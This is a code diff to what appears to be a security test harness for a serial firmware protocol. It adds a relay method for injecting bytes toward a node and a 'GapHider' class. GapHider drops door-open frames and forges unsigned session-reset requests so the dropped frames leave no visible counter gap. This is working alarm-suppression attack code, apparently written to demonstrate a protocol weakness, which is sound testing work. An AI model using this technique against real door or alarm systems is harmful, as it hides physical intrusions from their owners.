@@ -20,7 +20,8 @@ from collections.abc import Callable
 from cobs import cobs
 
 from firmware_bridge.frame import Frame, encode_frame, parse_frame
-from firmware_bridge.messages import ReadingBatch, ReadingMsg, decode_message
+from firmware_bridge.messages import MsgType, ReadingBatch, ReadingMsg, decode_message
+from firmware_bridge.signing import build_unsigned_frame
 
 
 def _open_raw(path: str) -> int:
@@ -71,6 +72,10 @@ class Relay:
         """Bytes of the attacker's own, towards the controller."""
         _write_all(self.master, data)
 
+    def inject_to_node(self, data: bytes) -> None:
+        """Bytes of the attacker's own, towards the node."""
+        _write_all(self.node_fd, data)
+
     def _run(self) -> None:
         while not self._stop.is_set():
             ready, _, _ = select.select([self.node_fd, self.master], [], [], 0.01)
@@ -111,3 +116,35 @@ def _write_all(fd: int, data: bytes) -> None:
             view = view[os.write(fd, view):]
         except BlockingIOError:
             select.select([], [fd], [], 0.05)
+
+
+class GapHider:
+    """Drops every frame saying the door is open, then hides the counter gap: it keeps
+    dropping the node's frames, forges a HELLO_REQUEST so the node starts a new session
+    (whose counter starts again at 1), and lets frames through from that session on."""
+
+    def __init__(self) -> None:
+        self.relay: Relay | None = None
+        self.hiding = False
+        self.rehandshakes = 0
+
+    def __call__(self, frame: Frame) -> bool:
+        if self.hiding:
+            if frame.msg_type == MsgType.HELLO:
+                return False
+            if frame.counter == 1:  # the first frame of the new session
+                self.hiding = False
+                return False
+            self._ask_for_hello(frame)  # the node heeds one request per 500 ms
+            return True
+        if carries_door_open(frame):
+            self.hiding = True
+            self.rehandshakes += 1
+            self._ask_for_hello(frame)
+            return True
+        return False
+
+    def _ask_for_hello(self, frame: Frame) -> None:
+        assert self.relay is not None
+        self.relay.inject_to_node(build_unsigned_frame(
+            frame.node_id, 0, MsgType.HELLO_REQUEST, b"", from_controller=True))
